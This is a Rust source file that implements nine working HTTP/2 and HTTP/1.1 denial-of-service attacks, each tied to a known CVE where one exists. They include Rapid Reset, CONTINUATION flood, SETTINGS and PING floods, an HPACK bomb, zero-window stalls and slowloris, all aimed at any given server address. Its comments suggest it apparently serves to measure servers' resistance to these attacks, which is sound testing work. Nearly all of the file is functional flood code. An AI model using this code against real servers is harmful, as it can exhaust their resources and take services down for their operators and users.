//! Clients that ask a server for more than they pay for. Each is a known attack.

use std::{
    collections::BTreeMap,
    net::SocketAddr,
    time::{Duration, Instant},
};

use anyhow::Result;
use bytes::{BufMut, BytesMut};
use futures::future::join_all;
use tokio::{io::AsyncWriteExt, net::TcpStream, time::sleep};

use crate::wire::{Frame, Indexing, Wire, flag, frame, kind, literal, request, settings};

/// Frames sent before the answers are looked at.
const BATCH: u32 = 100;
/// Longest wait for a server to take bytes, or to send any.
const LIMIT: Duration = Duration::from_millis(200);
/// Connections of slowloris.
const SLOW: usize = 200;
/// Connections without a window, and the answers that each holds up.
const STALLED: usize = 10;
const ANSWERS: u32 = 10;
const INITIAL_WINDOW_SIZE: u16 = 4;
/// How many requests later a late reset comes, so that a proxy has sent its request on.
const LATER: u32 = 500;
/// Error code of a request that is given up.
const CANCEL: u32 = 8;

/// One kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests, each cancelled at once: CVE-2023-44487.
    RapidReset,
    /// Requests, each cancelled when some hundred others have followed it.
    LateReset,
    /// Header fields without an end: CVE-2024-27316.
    ContinuationFlood,
    /// SETTINGS, whose answers are not read: CVE-2019-9515.
    SettingsFlood,
    /// PING, whose answers are not read: CVE-2019-9512.
    PingFlood,
    /// Small header blocks that refer to one large field again and again: CVE-2016-6581.
    HpackBomb,
    /// Requests for much, without room for the answer: CVE-2019-9517.
    ZeroWindow,
    /// Frames without content: CVE-2019-9518.
    EmptyData,
    /// HTTP/1.1 requests of one byte a second.
    Slowloris,
}

/// What an attack came to.
#[derive(Debug, Clone, Default)]
pub struct Outcome {
    /// Connections opened.
    pub connections: u64,
    /// Frames (or bytes, for slowloris) sent.
    pub sent: u64,
    /// Connections that the server closed.
    pub closed: u64,
    /// Error codes of GOAWAY and RST_STREAM, and how many of each.
    pub codes: BTreeMap<u32, u64>,
}

impl Outcome {
    fn saw(&mut self, frame: &Frame) {
        if let Some(code) = frame.error_code() {
            *self.codes.entry(code).or_default() += 1;
        }
    }

    fn add(&mut self, other: Self) {
        self.connections += other.connections;
        self.sent += other.sent;
        self.closed += other.closed;
        for (code, count) in other.codes {
            *self.codes.entry(code).or_default() += count;
        }
    }
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::LateReset,
        Self::ContinuationFlood,
        Self::SettingsFlood,
        Self::PingFlood,
        Self::HpackBomb,
        Self::ZeroWindow,
        Self::EmptyData,
        Self::Slowloris,
    ];

    /// Its name, as one types it.
    pub fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid_reset",
            Self::LateReset => "late_reset",
            Self::ContinuationFlood => "continuation_flood",
            Self::SettingsFlood => "settings_flood",
            Self::PingFlood => "ping_flood",
            Self::HpackBomb => "hpack_bomb",
            Self::ZeroWindow => "zero_window",
            Self::EmptyData => "empty_data",
            Self::Slowloris => "slowloris",
        }
    }

    /// Attacks `address` for `time`; connects again where the server closes.
    ///
    /// # Errors
    /// Where it cannot connect even once.
    pub async fn run(self, address: SocketAddr, time: Duration) -> Result<Outcome> {
        let until = Instant::now() + time;
        match self {
            Self::Slowloris => many(SLOW, || slowloris(address, until)).await,
            Self::ZeroWindow => many(STALLED, || zero_window(address, until)).await,
            _ => self.flood(address, until).await,
        }
    }

    /// One connection after another, each until the server closes it.
    async fn flood(self, address: SocketAddr, until: Instant) -> Result<Outcome> {
        let mut outcome = Outcome::default();
        while Instant::now() < until {
            let mut wire = match Wire::connect(address, &[]).await {
                Ok(wire) => wire,
                // Being refused is a good defence.
                Err(_) if outcome.connections > 0 => {
                    sleep(LIMIT / 10).await;
                    continue;
                }
                Err(error) => return Err(error),
            };
            outcome.connections += 1;
            let mut flood = Flood::begin(self, address, &mut wire.out);
            while Instant::now() < until {
                if wire.out.len() < 1 << 20 {
                    outcome.sent += flood.batch(&mut wire.out);
                }
                if wire.flush(LIMIT).await.is_err() {
                    break;
                }
                let alive = match flood.attack {
                    Self::LateReset => flood.follow(&mut wire, &mut outcome).await,
                    _ => !flood.reads() || drain(&mut wire, &mut outcome, Duration::ZERO).await,
                };
                if !alive {
                    break;
                }
                // The clients that are measured live in this process.
                tokio::task::yield_now().await;
            }
            // A last word may have come before the end.
            if Instant::now() < until {
                outcome.closed += 1;
                drain(&mut wire, &mut outcome, LIMIT).await;
            }
        }
        Ok(outcome)
    }
}

/// Reads what is there; false when the connection is closed.
async fn drain(wire: &mut Wire, outcome: &mut Outcome, limit: Duration) -> bool {
    loop {
        match wire.next(limit).await {
            Ok(Some(frame)) => {
                outcome.saw(&frame);
                if frame.kind == kind::GOAWAY {
                    return false;
                }
            }
            Ok(None) => return true,
            Err(_) => return false,
        }
    }
}

/// What is sent over and over.
struct Flood {
    attack: Attack,
    block: BytesMut,
    stream: u32,
    /// Pings that are not answered.
    pings: u32,
}

impl Flood {
    fn begin(attack: Attack, address: SocketAddr, out: &mut BytesMut) -> Self {
        let authority = address.to_string();
        let mut flood = Self {
            attack,
            block: request(&authority, "/bytes/1"),
            stream: 1,
            pings: 0,
        };
        match attack {
            Attack::ContinuationFlood => {
                frame(out, kind::HEADERS, 0, 1, &flood.block);
                flood.block.clear();
                for number in 0..300 {
                    let name = format!("x-{number}");
                    literal(&mut flood.block, Indexing::None, name.as_bytes(), b"0123456789");
                }
            }
            Attack::HpackBomb => {
                let mut first = flood.block.clone();
                literal(&mut first, Indexing::Incremental, b"x-bomb", &[b'b'; 3900]);
                frame(
                    out,
                    kind::HEADERS,
                    flag::END_HEADERS | flag::END_STREAM,
                    1,
                    &first,
                );
                flood.stream = 3;
                // The newest entry of the table: 62.
                flood.block.put_bytes(0x80 | 62, 16_000);
            }
            Attack::EmptyData => frame(out, kind::HEADERS, flag::END_HEADERS, 1, &flood.block),
            // Not answered before it is cancelled.
            Attack::LateReset => flood.block = request(&authority, "/wait/60000"),
            _ => {}
        }
        flood
    }

    /// Whether the answers are read. The worst client does not.
    fn reads(&self) -> bool {
        !matches!(self.attack, Attack::SettingsFlood | Attack::PingFlood)
    }

    /// Keeps one batch ahead of the server, so that what is cancelled has begun there; false when the
    /// connection is closed.
    async fn follow(&mut self, wire: &mut Wire, outcome: &mut Outcome) -> bool {
        frame(&mut wire.out, kind::PING, 0, 0, b"are here");
        self.pings += 1;
        let until = Instant::now() + LIMIT;
        while self.pings > 1 && Instant::now() < until {
            match wire.next(LIMIT).await {
                Ok(Some(frame)) => {
                    outcome.saw(&frame);
                    self.pings -= u32::from(frame.kind == kind::PING && frame.flags == flag::ACK);
                    if frame.kind == kind::GOAWAY {
                        return false;
                    }
                }
                Ok(None) => return true,
                Err(_) => return false,
            }
        }
        true
    }

    /// Appends some frames; says how many.
    fn batch(&mut self, out: &mut BytesMut) -> u64 {
        let end = flag::END_HEADERS | flag::END_STREAM;
        let count = if self.attack == Attack::HpackBomb {
            4
        } else {
            BATCH
        };
        for _ in 0..count {
            match self.attack {
                Attack::RapidReset => {
                    frame(out, kind::HEADERS, end, self.stream, &self.block);
                    frame(out, kind::RST_STREAM, 0, self.stream, &CANCEL.to_be_bytes());
                    self.stream += 2;
                }
                Attack::LateReset => {
                    frame(out, kind::HEADERS, end, self.stream, &self.block);
                    if let Some(earlier) = self.stream.checked_sub(2 * LATER) {
                        frame(out, kind::RST_STREAM, 0, earlier, &CANCEL.to_be_bytes());
                    }
                    self.stream += 2;
                }
                Attack::ContinuationFlood => frame(out, kind::CONTINUATION, 0, 1, &self.block),
                Attack::SettingsFlood => settings(out, &[(INITIAL_WINDOW_SIZE, 65_535)]),
                Attack::PingFlood => frame(out, kind::PING, 0, 0, b"12345678"),
                Attack::HpackBomb => {
                    frame(out, kind::HEADERS, end, self.stream, &self.block);
                    self.stream += 2;
                }
                Attack::EmptyData => frame(out, kind::DATA, 0, 1, &[]),
                Attack::ZeroWindow | Attack::Slowloris => {}
            }
        }
        u64::from(count)
    }
}

async fn many<F: Future<Output = Outcome>>(count: usize, make: impl Fn() -> F) -> Result<Outcome> {
    let mut total = Outcome::default();
    for outcome in join_all((0..count).map(|_| make())).await {
        total.add(outcome);
    }
    anyhow::ensure!(total.connections > 0, "cannot connect");
    Ok(total)
}

/// Asks for large answers and gives them no room.
async fn zero_window(address: SocketAddr, until: Instant) -> Outcome {
    let mut outcome = Outcome::default();
    let Ok(mut wire) = Wire::connect(address, &[(INITIAL_WINDOW_SIZE, 0)]).await else {
        return outcome;
    };
    outcome.connections = 1;
    let block = request(&address.to_string(), "/bytes/10000000");
    for number in 0..ANSWERS {
        let end = flag::END_HEADERS | flag::END_STREAM;
        frame(&mut wire.out, kind::HEADERS, end, 2 * number + 1, &block);
        outcome.sent += 1;
    }
    while Instant::now() < until {
        let alive = wire.flush(LIMIT).await.is_ok() && drain(&mut wire, &mut outcome, LIMIT).await;
        if !alive {
            outcome.closed = 1;
            break;
        }
    }
    outcome
}

/// Sends a request that never ends, a byte at a time.
async fn slowloris(address: SocketAddr, until: Instant) -> Outcome {
    let mut outcome = Outcome::default();
    let Ok(mut stream) = TcpStream::connect(address).await else {
        return outcome;
    };
    outcome.connections = 1;
    let begin = format!("GET / HTTP/1.1\r\nhost: {address}\r\nx-slow: ");
    let mut bytes: Vec<u8> = begin.into_bytes();
    while Instant::now() < until {
        if stream.write_all(&bytes).await.is_err() {
            outcome.closed = 1;
            break;
        }
        outcome.sent += bytes.len() as u64;
        bytes = vec![b'x'];
        let rest = until.saturating_duration_since(Instant::now());
        sleep(rest.min(Duration::from_secs(1))).await;
    }
    outcome
}
